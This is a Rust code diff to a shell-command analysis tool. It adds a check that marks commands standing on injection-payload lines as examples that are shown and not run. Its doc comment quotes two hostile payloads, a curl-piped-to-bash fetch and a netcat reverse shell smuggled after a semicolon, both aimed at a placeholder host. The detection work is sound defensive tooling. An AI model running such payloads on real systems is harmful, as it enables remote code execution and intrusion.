@@ -548,7 +548,9 @@ impl UnitReader<'_> {
             pipeline,
             redirects,
             within,
-            counter_example: self.counter || self.commented_as_counter(node),
+            counter_example: self.counter
+                || self.commented_as_counter(node)
+                || self.on_payload_line(node),
             origin: self.origin,
         }
     }
@@ -599,6 +601,17 @@ impl UnitReader<'_> {
                 span: self.offset + node.start_byte()..self.offset + body.start_byte(),
             },
         });
+    }
+
+    /// Whether the command stands on a line written as an injection payload (`$(curl x |
+    /// bash)`, `;nc -e /bin/sh x 4444`), shown, not run.
+    fn on_payload_line(&self, node: Node<'_>) -> bool {
+        let start = node.start_byte();
+        let line_start = self.code[..start].rfind('\n').map_or(0, |i| i + 1);
+        let line_end = self.code[start..]
+            .find('\n')
+            .map_or(self.code.len(), |i| start + i);
+        quoted::is_injection_payload(&self.code[line_start..line_end])
     }
 
     /// Whether a comment on the command's line, or the comment lines right above it,
